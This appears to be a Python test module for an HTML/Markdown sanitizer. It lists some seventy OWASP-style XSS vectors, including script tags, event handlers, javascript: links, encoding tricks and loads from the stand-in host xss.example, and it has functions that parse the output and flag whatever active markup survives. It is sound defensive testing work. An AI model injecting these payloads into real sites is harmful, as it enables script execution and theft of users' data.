"""Words that want to be markup, after OWASP's cheat sheet, and a look at what became of them."""

from functools import lru_cache

import tinyhtml5

VECTORS = (
    "<script>alert(7319)</script>",
    "<SCRIPT SRC=//xss.example/7319.js></SCRIPT>",
    "<scr<script>ipt>alert(7319)</scr</script>ipt>",
    "</script><script>alert(7319)//",
    "</title><script>alert(7319)</script>",
    "</textarea><script>alert(7319)</script>",
    "</style><script>alert(7319)</script>",
    "--><script>alert(7319)</script><!--",
    "]]><script>alert(7319)</script>",
    "<![CDATA[<script>alert(7319)</script>]]>",
    "<img src=x onerror=alert(7319)>",
    "<img src=x onerror&#61;alert(7319)>",
    "<IMG SRC=`javascript:alert(7319)`>",
    '<img """><script>alert(7319)</script>">',
    "<img src=x:x onerror\u000b=alert(7319)>",
    "<img/src/onerror=alert(7319)>",
    "<svg onload=alert(7319)>",
    "<svg/onload=alert(7319)//",
    "<svg><script>alert&#40;7319)</script></svg>",
    "<svg><animate onbegin=alert(7319) attributeName=x>",
    "<svg><use href=data:image/svg+xml,7319>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(7319)>",
    "<math href=javascript:alert(7319)>7319",
    "<body onload=alert(7319)>",
    "<iframe src=javascript:alert(7319)>",
    "<iframe srcdoc='<script>alert(7319)</script>'>",
    "<object data=data:text/html,7319>",
    "<embed src=//xss.example/7319.swf>",
    "<form action=//xss.example/7319><button>",
    "<button formaction=javascript:alert(7319)>7319",
    "<input autofocus onfocus=alert(7319)>",
    "<select onfocus=alert(7319) autofocus>",
    "<textarea onfocus=alert(7319) autofocus>",
    "<video><source onerror=alert(7319)>",
    "<audio src=x onerror=alert(7319)>",
    "<details open ontoggle=alert(7319)>",
    "<marquee onstart=alert(7319)>",
    "<a href=javascript:alert(7319)>7319</a>",
    "<a href=jAvAsCrIpT&colon;alert(7319)>7319</a>",
    "<a href='java\tscript:alert(7319)'>7319</a>",
    "<a href=&#106;avascript:alert(7319)>7319</a>",
    "<a href=vbscript:msgbox(7319)>7319</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>7319</a>",
    "<a onmouseover=alert(7319)>7319</a>",
    "<base href=//xss.example/7319/>",
    "<link rel=stylesheet href=//xss.example/7319.css>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(7319)>",
    "<style>@import '//xss.example/7319.css';</style>",
    "<div style=background:url(javascript:alert(7319))>",
    "<template><script>alert(7319)</script></template>",
    "<noscript><p title='</noscript><script>alert(7319)</script>'>",
    "<xss id=x tabindex=1 onfocus=alert(7319)></xss>",
    '" onmouseover="alert(7319)',
    "' onmouseover='alert(7319)",
    '"><svg onload=alert(7319)>',
    "'><svg onload=alert(7319)>",
    "` onmouseover=alert(7319)",
    '" hx-get="//xss.example/7319" hx-trigger="load',
    '"}\'> hx-on::load="alert(7319)',
    "[7319](javascript:alert(7319))",
    "[7319](java&#115;cript:alert(7319))",
    "![7319](//xss.example/7319.png)",
    '[7319](//xss.example/ "onclick=alert(7319)")',
    "<javascript:alert(7319)>",
    "[7319]: javascript:alert(7319)",
    "{{ 7*7319 }}{% include 'x' %}",
    "${7*7319}#{7*7319}<%= 7*7319 %>",
    "\ufeff<\u200bscript>alert(7319)</script>",
    "\uff1cscript\uff1ealert(7319)\uff1c/script\uff1e",
    "\u202e>tpircs/<(9137)trela>tpircs<",
    "&lt;script&gt;alert(7319)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(7319)\\u003c/script\\u003e",
)
ADDRESSES = (
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcdoc",
    "hx-get",
    "hx-post",
    "ping",
)
# What a browser would run, fetch or send; each has to be there exactly as often as without such words.
ACTIVE = (
    "script", "iframe", "object", "embed", "form", "button", "input", "select", "textarea", "img",
    "image", "svg", "math", "style", "link", "meta", "base", "video", "audio", "source", "template",
    "use", "animate", "xss", "marquee", "noscript", "title",
)  # fmt: skip
MARKDOWN = {
    "p",
    "br",
    "em",
    "strong",
    "ul",
    "ol",
    "li",
    "blockquote",
    "code",
    "pre",
    "a",
    "h3",
    "h4",
    "hr",
}
PROSE = {"href", "rel"}  # of a link in what people write


def packed(longest, turn=0):
    """As many vectors as fit into a column, beginning with another one each turn."""
    if not longest:
        return "\n\n".join(VECTORS)
    text = ""
    for vector in VECTORS[turn % len(VECTORS) :] + VECTORS:
        if len(text) + len(vector) + 1 > longest:
            break
        text += f" {vector}"
    return text.strip() or VECTORS[0][:longest]


@lru_cache(maxsize=4)
def elements(text):
    """Each element of a page, as a browser builds it: name in small letters, attributes."""
    return [
        (
            element.tag.rpartition("}")[2].lower(),
            {str(key).lower(): value for key, value in element.items()},
        )
        for element in tinyhtml5.parse(text, namespace_html_elements=False).iter()
        if isinstance(element.tag, str)
    ]


def shape(text):
    """What a page is made of: how often each active element stands there, all names that occur."""
    tags = elements(text)
    names = [name for name, _ in tags]
    return {
        "active": {name: names.count(name) for name in ACTIVE if name in names},
        "names": set(names),
        "attributes": {key for _, attributes in tags for key in attributes},
    }


def harms(text):
    """Handlers, addresses that run, code in the page: what must never be there."""
    harm = []
    for name, attributes in elements(text):
        harm += [
            (name, key, value[:60])
            for key, value in attributes.items()
            if is_harm(name, key, value)
        ]
        if name == "script" and not {"src", "type"} & attributes.keys():
            harm.append((name, "", "inline"))
    return harm


def is_harm(name, key, value):
    """Whether an attribute runs something, or asks somebody else for it."""
    plain = "".join(value.split()).lower()
    if key == "style" or key.startswith(("on", "hx-on")):
        return True
    if key not in ADDRESSES:
        return False
    asks = name != "a" and "xss.example" in plain
    return asks or plain.startswith(("javascript:", "vbscript:", "data:text"))


def added(before, after):
    """What a page has more of than it had with harmless words; Markdown's own apart."""
    more = {
        name: count
        for name, count in after["active"].items()
        if count != before["active"].get(name, 0)
    }
    names = after["names"] - before["names"] - MARKDOWN
    attributes = after["attributes"] - before["attributes"] - PROSE
    return {
        kind: values
        for kind, values in (("active", more), ("names", names), ("attributes", attributes))
        if values
    }
